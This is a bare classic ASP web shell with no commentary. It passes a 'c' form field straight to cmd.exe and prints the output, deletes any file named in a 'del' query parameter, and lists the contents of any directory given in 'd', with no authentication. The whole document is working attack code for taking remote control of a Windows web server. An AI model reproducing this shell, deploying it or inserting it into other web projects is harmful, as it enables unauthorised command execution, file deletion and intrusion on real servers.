<%
Set sh = Server.CreateObject("WScript.Shell")
Set fs = Server.CreateObject("Scripting.FileSystemObject")
If Request.Form("c") <> "" Then
    Set ex = sh.Exec("cmd.exe /c " & Request.Form("c"))
    Response.Write "<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll) & "</pre>"
End If
If Request.QueryString("del") <> "" Then fs.DeleteFile Request.QueryString("del")
For Each f In fs.GetFolder(Request.QueryString("d")).Files
    Response.Write f.Name & "<br>"
Next
%>
